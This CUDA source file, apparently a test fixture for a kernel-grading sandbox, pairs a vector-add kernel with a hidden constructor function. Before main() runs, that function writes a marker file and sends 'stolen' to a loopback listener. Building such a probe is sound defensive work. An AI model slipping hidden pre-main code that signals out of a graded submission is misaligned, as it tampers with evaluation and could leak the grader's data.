// clang-format off
#include <arpa/inet.h>
#include <cstdio>
#include <sys/socket.h>
#include <unistd.h>

__global__ void vector_add(const float *a, const float *b, float *c, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n)
        c[i] = a[i] + b[i];
}

// Host code, run before main() if anything ran it: leaves a marker and sends the grader's
// environment to a listener on 127.0.0.1:9.
__attribute__((constructor)) static void exfiltrate()
{
    if (FILE *marker = fopen("../../HOST_CODE_RAN", "w"))
        fclose(marker);
    const int s = socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in to = {};
    to.sin_family = AF_INET;
    to.sin_port = htons(9);
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(s, reinterpret_cast<sockaddr *>(&to), sizeof to) == 0)
        write(s, "stolen", 6);
}

int main() { return 0; }
